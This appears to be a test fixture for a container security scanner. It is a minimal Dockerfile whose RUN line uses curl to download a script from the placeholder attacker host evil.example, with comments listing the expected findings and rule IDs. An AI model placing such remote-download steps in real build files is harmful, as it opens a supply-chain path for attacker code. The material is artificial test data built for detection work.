FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
RUN URL=https://evil.example/y.sh && curl -o /y $URL
USER app
# expect: download 2 high "curl fetches https://evil.example/y.sh"
# expect-count: 3
# expect-ids: VR101-c33602e201 VR301-45c93b3d19 VR501-e064bac1a6
